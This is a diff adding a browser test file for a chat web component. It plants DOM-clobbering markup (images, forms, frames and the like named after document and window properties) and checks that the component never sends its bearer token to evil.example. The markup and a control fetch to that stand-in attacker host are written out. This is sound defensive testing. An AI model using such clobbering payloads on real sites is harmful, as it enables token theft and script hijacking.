@@ -1,0 +1,160 @@
+import { expect } from '@open-wc/testing'
+import { chatOrigin, endpoint, EVENT, makeReply, until, whenState } from './bench.js'
+import { closePages, openPage } from './open-page.js'
+
+afterEach(closePages)
+
+const FILE = '/bench/dist/kinescope-chat.js'
+const EVIL = 'https://evil.example'
+const TAG = `<kinescope-chat event-id="${EVENT}"></kinescope-chat>`
+const SETTINGS = `data-token-url="${EVIL}/token" data-chat-origin="${EVIL}" data-identity="e.v.l" data-upgrade="body" src="${EVIL}/kinescope-chat.js" href="${EVIL}/kinescope-chat.js"`
+
+/** Elements whose name or id takes the place of a property of `document` or of the window. */
+const SHAPES: Record<string, (name: string) => string> = {
+  'an image': (name) => `<img name="${name}" alt="" ${SETTINGS}>`,
+  'two images': (name) =>
+    `<img name="${name}" id="${name}" alt="" ${SETTINGS}><img name="${name}" alt="" ${SETTINGS}>`,
+  'a form with fields': (name) =>
+    `<form name="${name}" id="${name}" ${SETTINGS}><input name="src" value="${EVIL}/kinescope-chat.js"><input name="dataset"><output name="dataset" ${SETTINGS}></output></form>`,
+  'an object': (name) => `<object id="${name}" ${SETTINGS}></object>`,
+  'an embed': (name) => `<embed name="${name}" ${SETTINGS}>`,
+  'a link': (name) => `<a id="${name}" name="${name}" ${SETTINGS}>x</a>`,
+  'a drawing’s script': (name) => `<svg><script id="${name}" ${SETTINGS} type="text/plain"></script></svg>`,
+  'a frame': (name) => `<iframe name="${name}" title="x" ${SETTINGS.replace(/ src="[^"]*"/, '')}></iframe>`,
+}
+
+/** What the element and lit read of `document` and the window, and what looks as if they might. */
+const NAMES = [
+  ...[
+    'currentScript',
+    'scripts',
+    'baseURI',
+    'readyState',
+    'documentElement',
+    'head',
+    'body',
+    'defaultView',
+    'cookie',
+  ],
+  ...[
+    'addEventListener',
+    'removeEventListener',
+    'querySelector',
+    'querySelectorAll',
+    'adoptedStyleSheets',
+    'styleSheets',
+  ],
+  ...[
+    'visibilityState',
+    'hidden',
+    'activeElement',
+    'designMode',
+    'location',
+    'URL',
+    'referrer',
+    'fonts',
+    'hasFocus',
+    'dir',
+  ],
+  ...[
+    'getRootNode',
+    'ownerDocument',
+    'nodeType',
+    'contains',
+    'title',
+    'lang',
+    'all',
+    'domain',
+    'documentURI',
+  ],
+  ...[
+    'KinescopeChat',
+    'customElements',
+    'fetch',
+    'navigator',
+    'performance',
+    'trusted',
+    'HTMLScriptElement',
+    'Error',
+    'URLSearchParams',
+  ],
+]
+/** What lit itself asks for: a chat may not come, but nothing leaks and the page goes on. */
+const STOPPERS = [
+  ...[
+    'createElement',
+    'createElementNS',
+    'createTreeWalker',
+    'createComment',
+    'importNode',
+    'createTextNode',
+    'adoptNode',
+  ],
+  ...[
+    'litHtmlVersions',
+    'litElementVersions',
+    'reactiveElementVersions',
+    'litHtmlPolyfillSupport',
+    'reactiveElementPolyfillSupport',
+  ],
+  ...[
+    'litElementHydrateSupport',
+    'ShadyDOM',
+    'ShadyCSS',
+    'litNonce',
+    'trustedTypes',
+    'litIssuedWarnings',
+    'createDocumentFragment',
+  ],
+]
+
+/** The markup once for each name, written while the page is parsed: an address has no room for all of it. */
+const written = (names: string[], markup: (name: string) => string) =>
+  `<script>for (const name of ${JSON.stringify(names)}) document.write(${JSON.stringify(markup('%')).replaceAll('<', '\\u003c')}.replaceAll('%', name))</script>`
+
+async function openAmong(content: string) {
+  const { url, asked } = await endpoint({ body: makeReply() })
+  const head = `<script>
+    sent = []
+    const note = (what) => sent.push(String(what))
+    { const real = fetch; window.fetch = (url, init) => (note(new Request(url, init).url + ' ' + JSON.stringify(init?.headers ?? {})), real(url, init)) }
+  </script>`
+  const page = await openPage({
+    head,
+    body: `${content}<main>${TAG}</main><script type="module" src="${FILE}" data-token-url="${url}" data-chat-origin="${chatOrigin}" data-identity="a.b.c"></script>`,
+  })
+  const { sent } = page.window as unknown as { sent: string[] }
+  return { page, asked, sent }
+}
+
+describe('a page whose content bears the names of what the file reads', () => {
+  for (const [shape, markup] of Object.entries(SHAPES))
+    it(`has its chat, and nobody else has its statement: ${shape}`, async () => {
+      const { page, asked, sent } = await openAmong(written(NAMES, markup))
+      const chat = await until(() => {
+        const found = page.document.getElementsByTagName('kinescope-chat')[0]
+        return found?.shadowRoot && found
+      })
+      await whenState(chat, 'ready')
+      expect((await asked()).map(({ authorization }) => authorization)).to.deep.equal(['Bearer a.b.c'])
+      expect(sent.filter((request) => request.includes('evil'))).to.deep.equal([])
+      expect(page.errors).to.deep.equal([])
+    })
+
+  for (const name of STOPPERS)
+    it(`leaks nothing, whether it has its chat or not: ${name}`, async () => {
+      for (const markup of Object.values(SHAPES)) {
+        const { sent } = await openAmong(markup(name))
+        await new Promise((resolve) => setTimeout(resolve, 30))
+        expect(sent.filter((request) => request.includes('evil'))).to.deep.equal([])
+        closePages()
+      }
+    })
+
+  it('would be seen to leak: the control', async () => {
+    const { sent } = await openAmong(
+      `<script>fetch('${EVIL}/token', { headers: { a: 'e.v.l' } }).catch(() => {})</script>`,
+    )
+    expect(sent.filter((request) => request.includes('evil'))).to.have.length(1)
+  })
+})
